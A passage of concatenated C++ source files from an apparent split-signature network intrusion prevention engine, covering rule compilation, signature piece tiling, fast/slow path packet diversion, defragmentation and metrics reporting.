  /// socket file at `path` is unlinked first (stale from a crash).
  void start(const std::string& path);

  /// Stop the accept loop, join the thread, unlink the socket. Idempotent.
  void stop();

  bool listening() const { return thread_.joinable(); }
  const std::string& socket_path() const { return path_; }

  /// Run one command, transport-free. Returns exactly one JSON object (no
  /// trailing newline). Never throws: every failure is an {"ok":false,...}
  /// response. Safe from any thread; commands are serialized.
  std::string execute(std::string_view command);

 private:
  void serve();
  void handle_client(int fd);
  std::string do_reload(std::string_view path);

  RuleCompiler& compiler_;
  RuleSetRegistry& registry_;
  std::function<std::string()> stats_;
  std::mutex exec_mu_;   // serializes execute()
  std::mutex stats_mu_;  // guards stats_ installation
  std::string path_;
  int listen_fd_ = -1;
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

}  // namespace sdt::control
