#include "control/compiler.hpp"

#include <utility>

#include "core/rules.hpp"
#include "util/error.hpp"

namespace sdt::control {

RuleCompiler::RuleCompiler(core::CompileOptions opts) : opts_(std::move(opts)) {
  opts_.drop_short_signatures = true;
}

CompileResult RuleCompiler::fail(core::CompileReport report,
                                 std::string reason) {
  report.ok = false;
  report.diagnostics.push_back(
      {0, std::move(reason), core::RuleSeverity::fatal});
  failures_.fetch_add(1, std::memory_order_relaxed);
  return CompileResult{nullptr, std::move(report)};
}

CompileResult RuleCompiler::finish(core::SignatureSet sigs, std::string source,
                                   std::uint64_t version,
                                   std::vector<core::RuleDiagnostic> diags) {
  compiles_.fetch_add(1, std::memory_order_relaxed);
  core::RuleSetHandle rs;
  try {
    rs = core::compile_ruleset(std::move(sigs), opts_, version,
                               std::move(source), std::move(diags));
  } catch (const Error& e) {
    // Defense in depth: with drop_short forced on, compile_ruleset should
    // not throw for rule content — but a reload path never propagates.
    return fail({}, e.what());
  }
  if (rs->signatures().empty()) {
    // An artifact matching nothing is almost always a mangled file, not an
    // intent. Refuse it; the old version stays active. (An operator who
    // really wants to disarm the box can publish one never-matching rule.)
    core::CompileReport report = rs->report();
    return fail(std::move(report),
                "no usable signatures (refusing to publish an empty rule "
                "set; previous version stays active)");
  }
  core::CompileReport report = rs->report();
  return CompileResult{std::move(rs), std::move(report)};
}

CompileResult RuleCompiler::compile_file(const std::string& path,
                                         std::uint64_t version) {
  core::RuleParseResult parsed;
  try {
    parsed = core::load_rules_file(path);
  } catch (const IoError& e) {
    compiles_.fetch_add(1, std::memory_order_relaxed);
    return fail({}, e.what());
  }
  return finish(std::move(parsed.signatures), path, version,
                std::move(parsed.diagnostics));
}

CompileResult RuleCompiler::compile_text(std::string_view text,
                                         std::string source,
                                         std::uint64_t version) {
  core::RuleParseResult parsed = core::parse_rules(text);
  return finish(std::move(parsed.signatures), std::move(source), version,
                std::move(parsed.diagnostics));
}

CompileResult RuleCompiler::compile_signatures(core::SignatureSet sigs,
                                               std::string source,
                                               std::uint64_t version) {
  return finish(std::move(sigs), std::move(source), version, {});
}

void RuleCompiler::register_metrics(telemetry::MetricsRegistry& reg,
                                    const std::string& prefix) const {
  using telemetry::MetricDesc;
  reg.add_counter(MetricDesc{prefix + ".compiles", "events", "control", true},
                  &compiles_);
  reg.add_counter(
      MetricDesc{prefix + ".failed_compiles", "events", "control", true},
      &failures_);
}

}  // namespace sdt::control
