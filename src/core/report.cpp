#include "core/report.hpp"

#include "util/json.hpp"

namespace sdt::core {

std::string stats_json(const SplitDetectEngine& engine) {
  const SplitDetectStats st = engine.stats_snapshot();
  JsonWriter j;
  j.begin_object();
  j.field("packets", st.packets);
  j.field("alerts", st.alerts);
  j.field("diverted_packets", st.diverted_packets);
  j.field("slow_packet_fraction", st.slow_packet_fraction());

  j.key("fast_path").begin_object();
  j.field("packets", st.fast.packets);
  j.field("bytes", st.fast.bytes);
  j.field("bytes_scanned", st.fast.bytes_scanned);
  j.field("tcp_segments", st.fast.tcp_segments);
  j.field("udp_datagrams", st.fast.udp_datagrams);
  j.field("flows_seen", st.fast.flows_seen);
  j.field("flows_diverted", st.fast.flows_diverted);
  j.field("piece_hits", st.fast.piece_hits);
  j.field("small_segment_anomalies", st.fast.small_segment_anomalies);
  j.field("ooo_anomalies", st.fast.ooo_anomalies);
  j.field("fragment_diverts", st.fast.fragment_diverts);
  j.field("urgent_diverts", st.fast.urgent_diverts);
  j.field("bad_packets", st.fast.bad_packets);
  j.field("bad_checksum_ignored", st.fast.bad_checksum_ignored);
  j.field("low_ttl_ignored", st.fast.low_ttl_ignored);
  j.field("flow_state_bytes",
          static_cast<std::uint64_t>(engine.fast_path().flow_state_bytes()));
  j.field("flows", static_cast<std::uint64_t>(engine.fast_path().flows()));
  j.end_object();

  j.key("slow_path").begin_object();
  j.field("packets", st.slow.packets);
  j.field("tcp_segments", st.slow.tcp_segments);
  j.field("udp_datagrams", st.slow.udp_datagrams);
  j.field("reassembled_bytes", st.slow.reassembled_bytes);
  j.field("bytes_scanned", st.slow.bytes_scanned);
  j.field("alerts", st.slow.alerts);
  j.field("out_of_order_segments", st.slow.out_of_order_segments);
  j.field("overlapping_segments", st.slow.overlapping_segments);
  j.field("conflicting_overlaps", st.slow.conflicting_overlaps);
  j.field("retransmissions", st.slow.retransmissions);
  j.field("urgent_segments", st.slow.urgent_segments);
  j.field("flows_seen", st.slow.flows_seen);
  j.field("flow_state_bytes",
          static_cast<std::uint64_t>(engine.slow_path().flow_state_bytes()));
  j.field("flows", static_cast<std::uint64_t>(engine.slow_path().flows()));
  j.end_object();

  j.end_object();
  return j.str();
}

std::string alerts_json(const std::vector<Alert>& alerts,
                        const SignatureSet& sigs) {
  JsonWriter j;
  j.begin_array();
  for (const Alert& a : alerts) {
    j.begin_object();
    if (a.signature_id == kConflictAlertId) {
      j.field("signature", "normalizer-conflict");
    } else if (a.signature_id == kUrgentAlertId) {
      j.field("signature", "normalizer-urgent");
    } else if (a.signature_id < sigs.size()) {
      j.field("signature", sigs[a.signature_id].name);
      j.field("signature_id", static_cast<std::uint64_t>(a.signature_id));
    } else {
      j.field("signature_id", static_cast<std::uint64_t>(a.signature_id));
    }
    j.field("flow", a.flow.str());
    j.field("ts_usec", a.ts_usec);
    j.field("stream_offset", a.stream_offset);
    j.field("source", a.source);
    j.end_object();
  }
  j.end_array();
  return j.str();
}

}  // namespace sdt::core
