// Signature splitting — the first half of the paper's contribution.
//
// A signature of length L >= 2p is cut into pieces of length exactly p:
// tiled at offsets 0, p, 2p, ... (every tile that fits entirely) plus one
// piece anchored at the end, [L-p, L). Pieces may overlap when p does not
// divide L; the Aho-Corasick automaton absorbs the redundancy.
//
// This tiling yields the covering property the detection theorem rests on:
//
//   (W)  every window of 2p-1 consecutive signature bytes contains at
//        least one complete piece, and every prefix or suffix of length
//        >= p contains the first or last piece.
//
// Consequently an attacker who delivers the signature using only in-order
// TCP segments of payload >= 2p-1 must place some complete piece inside a
// single segment, where the stateless per-packet scanner sees it. The only
// alternatives — small segments, out-of-order or overlapping sequence
// numbers, IP fragments — are precisely the anomalies that divert the flow
// to the slow path. (Property-tested in tests/core/theorem_test.cpp.)
#pragma once

#include <cstdint>
#include <span>
#include <vector>

#include "core/signature.hpp"
#include "match/aho_corasick.hpp"
#include "match/flat_dfa.hpp"
#include "match/prefilter.hpp"

namespace sdt::core {

/// One piece of one signature.
struct Piece {
  std::uint32_t signature_id = 0;
  std::uint32_t offset = 0;  // byte offset of the piece within the signature
};

/// Piece offsets for a signature of length `len` with piece length `p`.
/// Requires len >= 2 * p (throws InvalidArgument otherwise): shorter
/// signatures cannot be safely split and must stay on the slow path
/// unsplit — SplitDetectConfig::piece_len must be chosen against the
/// rule base's minimum signature length.
std::vector<std::uint32_t> piece_offsets(std::size_t len, std::size_t p);

/// Phase-shifted tiling: pieces at offsets `phase, phase+p, phase+2p, …`
/// (every tile fully inside the signature) plus the first piece anchored
/// at 0 and the last anchored at len-p. For every phase in [0, p) this
/// preserves the covering property (W) — the tiling phase is a *free
/// parameter* of the split.
std::vector<std::uint32_t> piece_offsets_with_phase(std::size_t len,
                                                    std::size_t p,
                                                    std::size_t phase);

/// The paper's rare-piece refinement: chance occurrences of a piece in
/// benign payload cost a slow-path diversion each, and pieces that align
/// with common protocol substrings (" HTTP/1.", "GET /...") fire
/// constantly (bench E5). Since the phase is free, pick — per signature —
/// the phase whose pieces occur least often in a sample of representative
/// benign payload. Returns the chosen offsets.
std::vector<std::uint32_t> optimized_piece_offsets(ByteView sig, std::size_t p,
                                                   ByteView benign_sample);

/// The fast path's pattern database: every piece of every signature,
/// compiled into one Aho-Corasick automaton, with the reverse mapping from
/// matcher pattern id back to (signature, offset).
///
/// Identical piece byte-strings are deduplicated before the automaton
/// build: rule bases share protocol substrings heavily, so two rules whose
/// tilings produce the same p bytes share ONE automaton pattern, and the
/// reverse mapping is one-to-many (pieces_for). The automaton shrinks;
/// detection is unchanged because a hit on the shared pattern implicates
/// every (signature, offset) that produced it.
class PieceSet {
 public:
  PieceSet() = default;
  PieceSet(const SignatureSet& sigs, std::size_t piece_len,
           match::AcLayout layout = match::AcLayout::dense_dfa);

  /// Phase-optimized construction: per-signature tiling phases chosen to
  /// minimize chance piece hits against `benign_sample` (see
  /// optimized_piece_offsets). Detection guarantees are identical.
  PieceSet(const SignatureSet& sigs, std::size_t piece_len,
           match::AcLayout layout, ByteView benign_sample);

  std::size_t piece_len() const { return piece_len_; }
  /// Total (signature, offset) mappings — every tiled piece, duplicates
  /// included.
  std::size_t piece_count() const { return pieces_.size(); }
  /// Unique automaton patterns (<= piece_count when rules share content).
  std::size_t pattern_count() const { return ac_.pattern_count(); }
  const match::AhoCorasick& matcher() const { return ac_; }

  /// Scan kernels, built for the dense layout only (the flat re-encoding
  /// would double a sparse set's footprint, defeating its point — E6
  /// sweeps the compact layout honestly). has_kernels() gates use.
  bool has_kernels() const { return !flat_.empty(); }
  const match::FlatDfa& flat() const { return flat_; }
  const match::Prefilter& prefilter() const { return pre_; }

  /// The first (signature, offset) behind an AhoCorasick pattern id — the
  /// piece that introduced the pattern, in signature order.
  const Piece& piece(std::uint32_t pattern_id) const {
    return pieces_[begin_[pattern_id]];
  }

  /// Every (signature, offset) mapped to an AhoCorasick pattern id.
  std::span<const Piece> pieces_for(std::uint32_t pattern_id) const {
    return std::span<const Piece>(pieces_)
        .subspan(begin_[pattern_id],
                 begin_[pattern_id + 1] - begin_[pattern_id]);
  }

  /// Fast-path memory cost (automaton + scan kernels + mapping).
  std::size_t memory_bytes() const {
    return ac_.memory_bytes() + flat_.memory_bytes() + pre_.memory_bytes() +
           pieces_.capacity() * sizeof(Piece) +
           begin_.capacity() * sizeof(std::uint32_t);
  }

 private:
  void build_kernels(match::AcLayout layout);

  std::size_t piece_len_ = 0;
  match::AhoCorasick ac_;
  match::FlatDfa flat_;
  match::Prefilter pre_;
  /// CSR mapping: pattern id -> pieces_[begin_[id], begin_[id+1]).
  std::vector<Piece> pieces_;
  std::vector<std::uint32_t> begin_;
};

}  // namespace sdt::core
