#include "core/engine.hpp"

#include "pcap/pcapng.hpp"

namespace sdt::core {

ConventionalIpsConfig derive_slow_config(const SplitDetectConfig& cfg) {
  ConventionalIpsConfig c;
  c.reasm = cfg.slow_reasm;
  c.defrag = cfg.defrag;
  c.max_flows = cfg.slow_max_flows;
  c.layout = cfg.fast.layout;
  // Clean packets can leak up to 3p-3 signature-prefix bytes past the fast
  // path before diversion (p-1 via edge packets, plus 2p-2 via one
  // FIN-pending small segment). The anchored takeover check covers them.
  c.takeover_slack = 3 * cfg.fast.piece_len - 3;
  // A diverted flow shipping two different versions of one byte range is
  // mounting a policy-ambiguity evasion; normalize-or-alert. Likewise for
  // urgent-mode data (the fast path diverts it here for exactly this).
  c.alert_on_conflicting_overlap = true;
  c.alert_on_urgent_data = true;
  c.verify_checksums = cfg.fast.verify_checksums;
  c.min_ttl = cfg.min_ttl;
  return c;
}

namespace {

FastPathConfig fast_config(const SplitDetectConfig& cfg) {
  FastPathConfig f = cfg.fast;
  if (cfg.min_ttl != 0) f.min_ttl = cfg.min_ttl;
  return f;
}

CompileOptions compile_options(const SplitDetectConfig& cfg) {
  CompileOptions opts;
  opts.piece_len = cfg.fast.piece_len;
  opts.layout = cfg.fast.layout;
  opts.piece_phase_sample = cfg.fast.piece_phase_sample;
  return opts;
}

}  // namespace

SplitDetectEngine::SplitDetectEngine(const SignatureSet& sigs,
                                     SplitDetectConfig cfg)
    : SplitDetectEngine(compile_ruleset(sigs, compile_options(cfg)), cfg) {}

SplitDetectEngine::SplitDetectEngine(RuleSetHandle rules, SplitDetectConfig cfg)
    : fast_(rules, fast_config(cfg)),
      slow_(std::move(rules), derive_slow_config(cfg)),
      defrag_(cfg.defrag) {}

void SplitDetectEngine::swap_ruleset(RuleSetHandle rules) {
  fast_.swap_ruleset(rules);       // validates pieces + piece_len first
  slow_.swap_ruleset(std::move(rules));
  ++reloads_;
}

Action SplitDetectEngine::process(const net::PacketView& pv,
                                  std::uint64_t now_usec,
                                  std::vector<Alert>& alerts) {
  ++packets_;
  FastDecision d = fast_.process(pv, now_usec);
  return finish(pv, std::move(d), now_usec, alerts);
}

std::size_t SplitDetectEngine::process_batch(const net::PacketView* pvs,
                                             const std::uint64_t* now_usec,
                                             std::size_t n,
                                             std::vector<Alert>& alerts,
                                             Action* actions) {
  batch_decisions_.resize(n);
  std::size_t not_forwarded = 0;
  // finish() of an ip_fragment packet force-diverts (pins) the revealed
  // flow the moment defragmentation completes its datagram — which changes
  // the fast-path verdict of any later packet of that flow. Computing all n
  // fast decisions up front would decide those packets *before* the pin and
  // forward them clean, opening exactly the slow-path stream hole the pin
  // exists to prevent. So fast decisions are only computed up to (and
  // including) the next fragment; the remainder waits until that
  // fragment's finish() has run. Fragment-free batches (the common case)
  // still take one process_batch call.
  std::size_t start = 0;
  while (start < n) {
    std::size_t stop = start;
    while (stop < n && !pvs[stop].is_fragment()) ++stop;
    if (stop < n) ++stop;  // include the run-terminating fragment
    fast_.process_batch(pvs + start, now_usec + start, stop - start,
                        batch_decisions_.data() + start);
    for (std::size_t i = start; i < stop; ++i) {
      ++packets_;
      const Action a =
          finish(pvs[i], std::move(batch_decisions_[i]), now_usec[i], alerts);
      if (actions != nullptr) actions[i] = a;
      if (a != Action::forward) ++not_forwarded;
    }
    start = stop;
  }
  return not_forwarded;
}

Action SplitDetectEngine::finish(const net::PacketView& pv, FastDecision d,
                                 std::uint64_t now_usec,
                                 std::vector<Alert>& alerts) {
  if (d.action == Action::forward) return Action::forward;

  ++diverted_packets_;

  // External slow path installed: the boundary is enqueue-or-shed, not a
  // synchronous reassembly call. Fragments are still defragmented here so
  // the sink only ever sees whole flow-keyed datagrams.
  if (sink_ != nullptr) return divert_to_sink(pv, d, now_usec, alerts);

  if (d.takeover) {
    slow_.adopt_flow(d.takeover->key, d.takeover->base_seq, now_usec,
                     d.takeover->prefix_leak);
  }

  std::size_t new_alerts = 0;
  if (d.reason == DivertReason::ip_fragment) {
    // Engine-level defragmentation: once the datagram is whole we both know
    // the flow (pin it to the slow path, with the fast path's sequence
    // bases, so no later clean packet can leave a hole in the slow-path
    // stream) and can hand it over for matching.
    if (auto datagram = defrag_.add(pv, now_usec)) {
      const net::PacketView whole = net::PacketView::parse_l3(*datagram);
      if (whole.ok()) {
        const flow::FlowRef ref = flow::make_flow_ref(whole);
        const FastDecision::Takeover t = fast_.force_divert(ref.key, now_usec);
        slow_.adopt_flow(t.key, t.base_seq, now_usec, t.prefix_leak);
      }
      new_alerts = slow_.process(whole, now_usec, alerts);
    }
  } else {
    new_alerts = slow_.process(pv, now_usec, alerts);
  }

  alerts_ += new_alerts;
  return new_alerts > 0 ? Action::alert : Action::divert;
}

Action SplitDetectEngine::divert_to_sink(const net::PacketView& pv,
                                         FastDecision d,
                                         std::uint64_t now_usec,
                                         std::vector<Alert>& alerts) {
  if (d.reason == DivertReason::ip_fragment) {
    auto datagram = defrag_.add(pv, now_usec);
    if (!datagram) return Action::divert;  // absorbed, awaiting siblings
    const net::PacketView whole = net::PacketView::parse_l3(*datagram);
    if (!whole.ok() || (!whole.has_tcp && !whole.has_udp)) {
      ++sink_unroutable_;
      return Action::divert;
    }
    const flow::FlowRef ref = flow::make_flow_ref(whole);
    DivertedPacket dp;
    dp.datagram = std::move(*datagram);
    dp.ts_usec = now_usec;
    dp.key = ref.key;
    dp.reason = DivertReason::ip_fragment;
    // Pin the revealed flow to the slow path exactly as the synchronous
    // engine does, and carry the takeover so the sink's IPS can adopt it.
    dp.takeover = fast_.force_divert(ref.key, now_usec);
    return ship_to_sink(std::move(dp), now_usec, alerts);
  }

  if (!pv.ok() || (!pv.has_tcp && !pv.has_udp)) {
    // No flow identity to route or admit on (hostile headers). Still not
    // forwarded clean — the caller sees divert — but nothing to enqueue.
    ++sink_unroutable_;
    return Action::divert;
  }

  const flow::FlowRef ref = flow::make_flow_ref(pv);
  DivertedPacket dp;
  dp.datagram.assign(pv.ip_datagram.begin(), pv.ip_datagram.end());
  dp.ts_usec = now_usec;
  dp.key = ref.key;
  dp.reason = d.reason;
  dp.takeover = std::move(d.takeover);
  return ship_to_sink(std::move(dp), now_usec, alerts);
}

Action SplitDetectEngine::ship_to_sink(DivertedPacket&& dp,
                                       std::uint64_t now_usec,
                                       std::vector<Alert>& alerts) {
  const flow::FlowKey key = dp.key;  // copy out before the move below
  switch (sink_->divert(std::move(dp))) {
    case DivertOutcome::admitted:
      ++sink_enqueued_;
      return Action::divert;
    case DivertOutcome::shed:
      // Shed-with-alert: the refusal is an explicit, attributable verdict.
      // One alert per flow (the sink reports repeats as shed_again).
      ++sink_shed_packets_;
      ++sink_shed_flows_;
      ++alerts_;
      alerts.push_back(
          Alert{key, kSlowPathShedAlertId, now_usec, 0, "slowpath-shed"});
      return Action::alert;
    case DivertOutcome::shed_again:
      ++sink_shed_packets_;
      return Action::divert;
  }
  return Action::divert;  // unreachable; keeps -Wreturn-type honest
}

Action SplitDetectEngine::process(const net::Packet& pkt, net::LinkType lt,
                                  std::vector<Alert>& alerts) {
  const net::PacketView pv = net::PacketView::parse(pkt.frame, lt);
  return process(pv, pkt.ts_usec, alerts);
}

void SplitDetectEngine::expire(std::uint64_t now_usec) {
  fast_.expire(now_usec);
  slow_.expire(now_usec);
  defrag_.expire(now_usec);
}

void SplitDetectEngine::register_metrics(telemetry::MetricsRegistry& reg,
                                         const std::string& prefix) const {
  using telemetry::MetricDesc;
  // The engine's tallies are thread-private plain integers — declared
  // non-live so a live poll skips them instead of racing the owner thread.
  const auto gauge = [&](const char* name, const char* unit,
                         std::function<std::uint64_t()> fn) {
    reg.add_gauge(MetricDesc{prefix + "." + name, unit, "engine", false},
                  std::move(fn));
  };
  gauge("packets", "packets", [this] { return packets_; });
  gauge("alerts", "alerts", [this] { return alerts_; });
  gauge("diverted_packets", "packets", [this] { return diverted_packets_; });
  gauge("sink_enqueued", "packets", [this] { return sink_enqueued_; });
  gauge("sink_shed_packets", "packets", [this] { return sink_shed_packets_; });
  gauge("sink_shed_flows", "flows", [this] { return sink_shed_flows_; });
  gauge("sink_unroutable", "packets", [this] { return sink_unroutable_; });
  gauge("reloads", "events", [this] { return reloads_; });
  gauge("ruleset_version", "version", [this] { return ruleset_version(); });
  gauge("fast.bytes_scanned", "bytes",
        [this] { return fast_.stats().bytes_scanned; });
  gauge("fast.flows_seen", "flows", [this] { return fast_.stats().flows_seen; });
  gauge("fast.flows_diverted", "flows",
        [this] { return fast_.stats().flows_diverted; });
  gauge("fast.piece_hits", "events", [this] { return fast_.stats().piece_hits; });
  gauge("fast.small_segment_anomalies", "events",
        [this] { return fast_.stats().small_segment_anomalies; });
  gauge("fast.ooo_anomalies", "events",
        [this] { return fast_.stats().ooo_anomalies; });
  gauge("fast.fragment_diverts", "events",
        [this] { return fast_.stats().fragment_diverts; });
  gauge("fast.batch_packets", "packets",
        [this] { return fast_.stats().batch_packets; });
  gauge("match.prefilter_pass", "payloads",
        [this] { return fast_.stats().prefilter_pass; });
  gauge("match.prefilter_hit", "payloads",
        [this] { return fast_.stats().prefilter_hit; });
  gauge("match.prefilter_exact_bytes", "bytes",
        [this] { return fast_.stats().prefilter_exact_bytes; });
  gauge("match.prefilter_bypassed", "payloads",
        [this] { return fast_.stats().prefilter_bypassed; });
  gauge("slow.bytes_scanned", "bytes",
        [this] { return slow_.stats().bytes_scanned; });
  gauge("slow.reassembled_bytes", "bytes",
        [this] { return slow_.stats().reassembled_bytes; });
  gauge("slow.flows_seen", "flows", [this] { return slow_.stats().flows_seen; });
  gauge("slow.conflicting_overlaps", "events",
        [this] { return slow_.stats().conflicting_overlaps; });
  gauge("flow_state_bytes", "bytes",
        [this] { return static_cast<std::uint64_t>(flow_state_bytes()); });
  gauge("memory_bytes", "bytes",
        [this] { return static_cast<std::uint64_t>(memory_bytes()); });
}

PcapRunResult run_pcap(SplitDetectEngine& engine, const std::string& path) {
  const auto reader = pcap::open_capture(path);  // classic pcap or pcapng
  PcapRunResult r;
  while (auto pkt = reader->next()) {
    ++r.packets;
    engine.process(*pkt, reader->link_type(), r.alerts);
  }
  return r;
}

}  // namespace sdt::core
