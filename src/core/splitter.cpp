#include "core/splitter.hpp"

#include <algorithm>
#include <map>

#include "match/single_match.hpp"
#include "util/error.hpp"

namespace sdt::core {

std::vector<std::uint32_t> piece_offsets(std::size_t len, std::size_t p) {
  if (p == 0) throw InvalidArgument("piece_offsets: piece length 0");
  if (len < 2 * p) {
    throw InvalidArgument(
        "piece_offsets: signature of length " + std::to_string(len) +
        " too short to split at piece length " + std::to_string(p) +
        " (need >= 2x)");
  }
  std::vector<std::uint32_t> offs;
  offs.reserve(len / p + 1);
  for (std::size_t o = 0; o + p <= len; o += p) {
    offs.push_back(static_cast<std::uint32_t>(o));
  }
  const auto last = static_cast<std::uint32_t>(len - p);
  if (offs.back() != last) offs.push_back(last);
  return offs;
}

std::vector<std::uint32_t> piece_offsets_with_phase(std::size_t len,
                                                    std::size_t p,
                                                    std::size_t phase) {
  if (p == 0) throw InvalidArgument("piece_offsets_with_phase: piece length 0");
  if (phase >= p) throw InvalidArgument("piece_offsets_with_phase: phase >= p");
  if (len < 2 * p) {
    throw InvalidArgument(
        "piece_offsets_with_phase: signature too short to split");
  }
  std::vector<std::uint32_t> offs;
  offs.push_back(0);  // anchored first piece
  for (std::size_t o = phase; o + p <= len; o += p) {
    offs.push_back(static_cast<std::uint32_t>(o));
  }
  offs.push_back(static_cast<std::uint32_t>(len - p));  // anchored last piece
  std::sort(offs.begin(), offs.end());
  offs.erase(std::unique(offs.begin(), offs.end()), offs.end());
  return offs;
}

std::vector<std::uint32_t> optimized_piece_offsets(ByteView sig, std::size_t p,
                                                   ByteView benign_sample) {
  std::size_t best_phase = 0;
  std::size_t best_score = SIZE_MAX;
  for (std::size_t phase = 0; phase < p; ++phase) {
    const auto offs = piece_offsets_with_phase(sig.size(), p, phase);
    std::size_t score = 0;
    for (const std::uint32_t o : offs) {
      const match::Bmh m(sig.subspan(o, p));
      score += m.find_all(benign_sample).size();
      if (score >= best_score) break;  // cannot win
    }
    if (score < best_score) {
      best_score = score;
      best_phase = phase;
      if (score == 0) break;  // cannot do better
    }
  }
  return piece_offsets_with_phase(sig.size(), p, best_phase);
}

namespace {

/// Common construction: builds the matcher over the per-signature offset
/// lists produced by `offsets_of`, deduplicating identical piece bytes so
/// the automaton holds each distinct p-byte string once. Builder ids are
/// dense and sequential, so the per-pattern piece groups assemble in id
/// order and flatten into a CSR mapping.
template <typename OffsetsFn>
void build_piece_set(const SignatureSet& sigs, std::size_t piece_len,
                     match::AcLayout layout, OffsetsFn&& offsets_of,
                     match::AhoCorasick& ac, std::vector<Piece>& pieces,
                     std::vector<std::uint32_t>& begin) {
  match::AhoCorasick::Builder b;
  std::map<Bytes, std::uint32_t> seen;  // piece bytes -> pattern id
  std::vector<std::vector<Piece>> groups;
  for (const Signature& s : sigs) {
    for (std::uint32_t off : offsets_of(s)) {
      const ByteView bytes = ByteView(s.bytes).subspan(off, piece_len);
      Bytes key(bytes.begin(), bytes.end());
      const auto [it, fresh] =
          seen.emplace(std::move(key), static_cast<std::uint32_t>(groups.size()));
      if (fresh) {
        const std::uint32_t id = b.add(bytes);
        if (id != groups.size()) {
          throw InvalidArgument("PieceSet: matcher id mismatch");
        }
        groups.emplace_back();
      }
      groups[it->second].push_back(Piece{s.id, off});
    }
  }
  begin.clear();
  begin.reserve(groups.size() + 1);
  begin.push_back(0);
  pieces.clear();
  for (const auto& g : groups) {
    pieces.insert(pieces.end(), g.begin(), g.end());
    begin.push_back(static_cast<std::uint32_t>(pieces.size()));
  }
  ac = b.build(layout);
}

}  // namespace

PieceSet::PieceSet(const SignatureSet& sigs, std::size_t piece_len,
                   match::AcLayout layout)
    : piece_len_(piece_len) {
  build_piece_set(
      sigs, piece_len, layout,
      [&](const Signature& s) { return piece_offsets(s.bytes.size(), piece_len); },
      ac_, pieces_, begin_);
  build_kernels(layout);
}

PieceSet::PieceSet(const SignatureSet& sigs, std::size_t piece_len,
                   match::AcLayout layout, ByteView benign_sample)
    : piece_len_(piece_len) {
  build_piece_set(
      sigs, piece_len, layout,
      [&](const Signature& s) {
        return optimized_piece_offsets(s.bytes, piece_len, benign_sample);
      },
      ac_, pieces_, begin_);
  build_kernels(layout);
}

void PieceSet::build_kernels(match::AcLayout layout) {
  if (layout != match::AcLayout::dense_dfa) return;
  flat_ = match::FlatDfa(ac_);
  pre_ = match::Prefilter(ac_);
}

}  // namespace sdt::core
