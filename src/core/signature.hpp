// Signature model: exact byte-string signatures (the paper's focus) and the
// set container shared by both engines.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "util/bytes.hpp"

namespace sdt::core {

struct Signature {
  std::uint32_t id = 0;
  std::string name;
  Bytes bytes;
};

/// Immutable-after-setup collection of signatures. Both the conventional
/// IPS and Split-Detect are constructed from the same set, so experiments
/// compare engines on identical rule bases.
class SignatureSet {
 public:
  /// Add a signature; returns its id. Throws InvalidArgument on empty bytes.
  std::uint32_t add(std::string name, ByteView bytes);
  std::uint32_t add(std::string name, std::string_view ascii);

  const Signature& operator[](std::uint32_t id) const { return sigs_[id]; }
  std::size_t size() const { return sigs_.size(); }
  bool empty() const { return sigs_.empty(); }
  std::size_t max_length() const { return max_len_; }
  std::size_t min_length() const { return min_len_; }

  auto begin() const { return sigs_.begin(); }
  auto end() const { return sigs_.end(); }

 private:
  std::vector<Signature> sigs_;
  std::size_t max_len_ = 0;
  std::size_t min_len_ = SIZE_MAX;
};

}  // namespace sdt::core
