#include "core/compiled_ruleset.hpp"

#include <chrono>
#include <map>

#include "util/error.hpp"
#include "util/json.hpp"

namespace sdt::core {

std::string CompileReport::to_json() const {
  JsonWriter j;
  j.begin_object();
  j.field("ok", ok);
  j.field("rules_parsed", static_cast<std::uint64_t>(rules_parsed));
  j.field("signatures", static_cast<std::uint64_t>(signatures));
  j.field("dropped_short", static_cast<std::uint64_t>(dropped_short));
  j.field("duplicate_signatures",
          static_cast<std::uint64_t>(duplicate_signatures));
  j.field("piece_count", static_cast<std::uint64_t>(piece_count));
  j.field("piece_patterns", static_cast<std::uint64_t>(piece_patterns));
  j.field("full_patterns", static_cast<std::uint64_t>(full_patterns));
  j.field("automaton_bytes", static_cast<std::uint64_t>(automaton_bytes));
  j.field("compile_ns", compile_ns);
  j.key("diagnostics").begin_array();
  for (const RuleDiagnostic& d : diagnostics) {
    j.begin_object();
    j.field("line", static_cast<std::uint64_t>(d.line));
    j.field("severity", to_string(d.severity));
    j.field("reason", d.reason);
    j.end_object();
  }
  j.end_array();
  j.end_object();
  return j.str();
}

std::size_t CompiledRuleSet::memory_bytes() const {
  std::size_t n = full_ac_.memory_bytes();
  if (pieces_) n += pieces_->memory_bytes();
  n += full_sids_.capacity() * sizeof(std::uint32_t);
  n += full_begin_.capacity() * sizeof(std::uint32_t);
  for (const Signature& s : sigs_) n += s.bytes.capacity() + s.name.capacity();
  return n;
}

RuleSetHandle compile_ruleset(SignatureSet sigs, const CompileOptions& opts,
                              std::uint64_t version, std::string source,
                              std::vector<RuleDiagnostic> parse_diags) {
  const auto t0 = std::chrono::steady_clock::now();

  auto rs = std::shared_ptr<CompiledRuleSet>(new CompiledRuleSet());
  rs->version_ = version;
  rs->source_ = std::move(source);
  rs->report_.diagnostics = std::move(parse_diags);
  rs->report_.rules_parsed = sigs.size();

  // Splittability screen: a signature shorter than 2p cannot be tiled into
  // whole pieces (splitter.hpp). At startup that is a configuration error
  // worth failing loudly on; on the reload path a bad rule must not take
  // the box down, so it is dropped with a diagnostic instead (ids are
  // re-assigned densely over the survivors, as SignatureSet requires).
  if (opts.piece_len != 0) {
    const std::size_t min_len = 2 * opts.piece_len;
    bool any_short = false;
    for (const Signature& s : sigs) any_short |= s.bytes.size() < min_len;
    if (any_short) {
      if (!opts.drop_short_signatures) {
        // Reproduce the historic loud failure (same condition piece_offsets
        // checks, surfaced before any automaton work).
        for (const Signature& s : sigs) {
          if (s.bytes.size() < min_len) {
            throw InvalidArgument(
                "compile_ruleset: signature '" + s.name + "' of length " +
                std::to_string(s.bytes.size()) +
                " too short to split at piece length " +
                std::to_string(opts.piece_len) + " (need >= 2x)");
          }
        }
      }
      SignatureSet kept;
      for (const Signature& s : sigs) {
        if (s.bytes.size() < min_len) {
          ++rs->report_.dropped_short;
          rs->report_.diagnostics.push_back(
              {0,
               "signature '" + s.name + "' (" +
                   std::to_string(s.bytes.size()) +
                   " bytes) shorter than 2*piece_len=" +
                   std::to_string(min_len) + "; dropped",
               RuleSeverity::skipped});
        } else {
          kept.add(s.name, ByteView(s.bytes));
        }
      }
      sigs = std::move(kept);
    }
  }

  rs->sigs_ = std::move(sigs);
  rs->report_.signatures = rs->sigs_.size();

  // Full-signature automaton with byte-level dedup: rule bases routinely
